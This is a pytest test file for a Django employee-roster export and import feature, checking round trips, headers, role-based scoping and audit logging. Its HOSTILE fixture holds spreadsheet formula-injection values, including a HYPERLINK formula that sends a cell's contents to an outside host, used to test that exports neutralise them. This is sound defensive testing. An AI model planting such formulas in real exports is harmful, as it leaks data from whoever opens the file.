import codecs

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from casspath.core.models import AuditEvent
from casspath.imports.actions import do_export
from casspath.imports.errors import ImportFileError
from casspath.imports.reader import read_table
from casspath.org.models import Employee
from casspath.org.scopes import ScopeRefused


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_it_export_then_import_is_a_no_op(world, tmp_path, suffix, capsys):
    Employee.objects.filter(employee_no="E0002").update(status="left", email="zhao@example.com")
    path = tmp_path / f"roster{suffix}"
    call_command("export", "roster", str(path))
    stamps = dict(Employee.objects.values_list("employee_no", "updated_at"))
    call_command("import", "roster", str(path))
    out = capsys.readouterr().out
    assert "created 0, updated 0, unchanged 4" in out
    assert dict(Employee.objects.values_list("employee_no", "updated_at")) == stamps


def test_it_csv_export_has_a_bom_and_the_import_headers(world, tmp_path):
    path = tmp_path / "roster.csv"
    call_command("export", "roster", str(path))
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    rows = read_table(data, "roster.csv").rows
    assert rows[0] == ["工号", "姓名", "手机号", "邮箱", "单位编码", "岗位", "入职日期", "职级", "状态"]
    assert ["E0001", "王经理", "13912345678", "", "GZ-TH-01", "客户经理", "2022-03-01", "", "在职"] in rows


def test_it_a_city_admin_exports_only_his_city(world, tmp_path):
    path = tmp_path / "gz.xlsx"
    call_command("export", "roster", str(path), "--as", "gzadmin")
    sheet = load_workbook(path).active
    numbers = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert numbers == ["E0001", "E0002", "T0001"]
    assert AuditEvent.objects.filter(verb="export.roster", actor=world.city_admin_a).exists()


def test_it_a_manager_exports_only_himself_and_others_are_refused(world, tmp_path):
    path = tmp_path / "me.csv"
    call_command("export", "roster", str(path), "--as", "E0001")
    rows = read_table(path.read_bytes(), "me.csv").rows
    assert [row[0] for row in rows[1:]] == ["E0001"]
    with pytest.raises(CommandError):
        call_command("export", "roster", str(tmp_path / "x.csv"), "--as", "outsider")
    with pytest.raises(CommandError):
        call_command("export", "roster", str(tmp_path / "x.json"))
    with pytest.raises(CommandError):
        call_command("export", "org", str(tmp_path / "x.csv"))


HOSTILE = {
    "E0001": '=HYPERLINK("http://x/?"&E2,"y")',
    "E0002": "+1+1",
    "T0001": "-2+3",
    "E0100": "@SUM(A1)",
}


@pytest.fixture
def hostile_names(world):
    for number, name in HOSTILE.items():
        Employee.objects.filter(employee_no=number).update(name=name)


def test_it_exports_formula_like_names_as_plain_text_to_xlsx(world, hostile_names, tmp_path):
    path = tmp_path / "roster.xlsx"
    call_command("export", "roster", str(path))
    sheet = load_workbook(path).active
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert {number: cell.value for number, cell in names.items()} == HOSTILE
    assert {cell.data_type for cell in names.values()} == {"s"}


def test_it_quotes_formula_like_names_in_csv(world, hostile_names, tmp_path):
    path = tmp_path / "roster.csv"
    call_command("export", "roster", str(path))
    text = path.read_bytes().decode("utf-8-sig")
    for name in HOSTILE.values():
        assert '"\'' + name.replace('"', '""') + '"' in text


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_it_reads_formula_like_names_back_unchanged(world, hostile_names, tmp_path, suffix, capsys):
    path = tmp_path / f"roster{suffix}"
    call_command("export", "roster", str(path))
    call_command("import", "roster", str(path), "--dry-run")
    assert "created 0, updated 0, unchanged 4" in capsys.readouterr().out
    names = Employee.objects.filter(employee_no__in=HOSTILE).values_list("employee_no", "name")
    assert dict(names) == HOSTILE


def test_it_writes_the_export_audit_row_through_the_action(world):
    data = do_export("roster", "gz.csv", acting_user=world.city_admin_a)
    event = AuditEvent.objects.get(verb="export.roster")
    assert (event.actor, event.changes) == (
        world.city_admin_a, {"file": "gz.csv", "bytes": len(data), "rows": 3, "filters": {}})
    with pytest.raises(ScopeRefused):
        do_export("roster", "x.csv", acting_user=world.outsider)
    with pytest.raises(ImportFileError):
        do_export("org", "x.csv", acting_user=world.city_admin_a)
    assert AuditEvent.objects.filter(verb__startswith="export.").count() == 1
